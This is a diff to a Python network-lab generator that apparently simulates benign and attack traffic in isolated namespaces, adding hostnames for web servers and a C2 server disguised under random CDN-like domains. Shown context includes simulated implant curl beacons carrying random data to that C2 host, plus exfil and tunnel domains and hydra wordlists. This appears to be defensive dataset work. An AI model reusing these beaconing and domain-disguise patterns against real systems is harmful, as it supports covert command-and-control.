@@ -185,6 +185,11 @@ class Lab:
         self.namespaces = [self.ns("sw")] + [self.ns(x) for x in self.roles]
         for n in self.namespaces:
             sh("ip", "netns", "add", n)
+        for role in self.roles:
+            os.makedirs(f"/etc/netns/{self.ns(role)}", exist_ok=True)
+            with open(f"/etc/netns/{self.ns(role)}/hosts", "w") as f:
+                f.write("127.0.0.1 localhost\n" + "".join(
+                    f"{self.ip[k]} {v}\n" for k, v in self.hostname.items()))
         sw = self.ns("sw")
         sh("ip", "-n", sw, "link", "add", "br0", "type", "bridge", "stp_state", "0", "forward_delay", "0")
         sh("ip", "-n", sw, "link", "set", "br0", "up")
@@ -339,6 +344,11 @@ class Lab:
         with open(f"{d}/hosts", "w") as f:
             for n, a in self.names.items():
                 f.write(f"{a} {n}\n")
+        # Clients use names in a share of their URLs (so TLS carries SNI and HTTP a Host name),
+        # from a per-namespace hosts file (`ip netns exec` mounts /etc/netns/NS/hosts): no lookup.
+        self.hostname = {"web1": f"www.{self.zone}", "web2": f"intranet.{self.zone}",
+                         "c2srv": f"{r.choice(['cdn', 'static', 'api', 'update'])}-{r.choice(WORDS)}.{r.choice(['com', 'net', 'io'])}"}
+        self.p_names = r.choice([0.5, 0.8, 1.0])
         self.exfil_domain = f"{r.choice(WORDS)}{r.randint(1, 99)}.{r.choice(['net', 'info', 'io', 'xyz'])}"
         self.tunnel_domain = f"{r.choice('tdxq')}.{r.choice(WORDS)}{r.randint(100, 999)}.{r.choice(['com', 'org', 'cc'])}"
         # Word lists for hydra (the right password is in some lists, not in others).
@@ -471,7 +481,8 @@ ftp_username=nobody
         https = r.random() < 0.5 if https is None else https
         path = path or r.choice(self.pages)
         port = self.port["https" if https else "http"]
-        return f"{'https' if https else 'http'}://{self.ip[server]}:{port}{path}"
+        host = self.hostname[server] if r.random() < self.p_names else self.ip[server]
+        return f"{'https' if https else 'http'}://{host}:{port}{path}"
 
     def rng_t(self) -> random.Random:
         """Per-thread RNG, derived from the seed and the thread's name."""
@@ -554,8 +565,9 @@ ftp_username=nobody
                 variant, target = "ssh-idle", "ssh"
             else:
                 server = r.choice(web)
+                host = self.hostname[server] if r.random() < self.p_names else self.ip[server]
                 cmd = ["sh", "-c", f"sleep {hold:.0f} | openssl s_client -quiet -connect "
-                       f"{self.ip[server]}:{self.port['https']}"]
+                       f"{host}:{self.port['https']}"]
                 variant, target = "tls-idle", server
             threading.Thread(target=self.act, name=f"{role}-idle-{r.random()}", daemon=True,
                              args=("benign", cmd[0], variant, role, [target], cmd, hold + 10)).start()
@@ -744,7 +756,8 @@ ftp_username=nobody
                 data = base64.b64encode(os.urandom(r.randint(32, 4000)))
             else:
                 data = None
-            cmd.append(f"{'https' if https else 'http'}://{self.ip['c2srv']}:{port}{path}")
+            host = self.hostname["c2srv"] if r.random() < self.p_names else self.ip["c2srv"]
+            cmd.append(f"{'https' if https else 'http'}://{host}:{port}{path}")
             self.act("c2", "curl", f"beacon-{'https' if https else 'http'}", "implant", ["c2srv"], cmd, 12, stdin_data=data)
             if not self.sleep(interval * (1 + r.uniform(-jitter, jitter))):
                 return
@@ -808,6 +821,8 @@ ftp_username=nobody
                 except (ProcessLookupError, ValueError):
                     pass
             sh("ip", "netns", "del", n, check=False)
+            if n.startswith(self.prefix) and os.path.isdir(f"/etc/netns/{n}"):
+                shutil.rmtree(f"/etc/netns/{n}", ignore_errors=True)
         if os.path.isdir(self.run):
             shutil.rmtree(self.run, ignore_errors=True)
 
